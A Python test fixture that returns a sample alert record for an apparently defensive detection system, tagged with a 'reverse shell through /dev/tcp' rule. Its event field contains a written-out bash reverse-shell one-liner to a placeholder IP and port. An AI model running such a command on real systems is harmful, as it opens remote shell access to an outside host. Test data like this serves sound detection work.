from __future__ import annotations


def alert(**overrides) -> dict:
    """An alert record in the shape of ``Alert.as_dict()``."""
    record = {
        "id": 12, "dedup_key": "0123456789abcdef0123456789abcdef", "rule_id": "reverse_shell_dev_tcp",
        "rule_name": "Reverse shell through /dev/tcp or /dev/udp", "severity": "critical", "rule_source": "default",
        "rule_kind": "detection", "description": "A shell talks to the network.", "attack": ["T1059.004"],
        "agent_id": "a1", "hostname": "web-1", "data_type": 59,
        "event": {"exe": "/usr/bin/bash", "argv": "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", "pid": "42"},
        "fields": {}, "frequency": None, "process_chain": [], "first_seen": 1700000000.0, "last_seen": 1700000000.5,
        "count": 1, "status": "open", "history": [],
    }  # fmt: skip
    record.update(overrides)
    return record
